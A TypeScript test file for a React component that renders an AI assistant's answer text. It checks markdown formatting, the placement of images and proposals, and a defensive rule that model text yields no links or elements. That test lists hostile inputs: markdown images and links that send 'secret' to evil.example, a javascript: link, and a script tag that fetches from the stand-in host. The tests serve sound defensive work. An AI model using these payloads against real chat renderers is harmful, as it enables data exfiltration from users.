import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { AnswerText, piecesOf } from "./answer-text.tsx";

const html = (text: string) => renderToStaticMarkup(<AnswerText text={text} />);

test("paragraphs, lists and strong words", () => {
  expect(html("Hello.\n\nTwo **red** dresses:\n- linen\n- silk\n\n1. first\n2. second")).toMatch(
    /<p[^>]*>Hello\.<\/p><p[^>]*>Two <strong>red<\/strong> dresses:<\/p><ul[^>]*><li[^>]*>linen<\/li><li[^>]*>silk<\/li><\/ul><ol[^>]*><li[^>]*>first<\/li><li[^>]*>second<\/li><\/ol>/,
  );
});

test.for([
  "![x](https://evil.example/p.png?d=secret)",
  "[click](https://evil.example/)",
  "[click](javascript:alert(1))",
  '<img src="https://evil.example/x">',
  "<script>fetch('https://evil.example')</script>",
  "<https://evil.example/>",
  "https://evil.example/?q=secret",
  "![x][1]\n\n[1]: https://evil.example/p.png",
  '**<a href="https://evil.example">x</a>**',
  "- ![x](data:image/svg+xml;base64,AAAA)",
])("S6 no picture, link or element comes from the words of a model: %s", (text) => {
  const made = html(text);
  expect(made.match(/<[a-z]+/g)).toEqual(expect.arrayContaining(["<div"]));
  expect(made).not.toMatch(
    /<(?:a|img|script|iframe|svg|link|style|object)\b|<[^>]*\s(?:href|src|style|on\w+)=/,
  );
});

test("pictures and proposals stand where the assistant showed them", () => {
  const images = { type: "images", at: 5, imageIds: ["a"] } as const;
  const proposal = { type: "proposal", at: 9, proposalId: "p" } as const;
  expect(piecesOf("Here: and that.", [proposal, images])).toEqual([
    { text: "Here:", part: images },
    { text: " and", part: proposal },
    { text: " that.", part: null },
  ]);
  expect(piecesOf("Words.", [])).toEqual([{ text: "Words.", part: null }]);
});
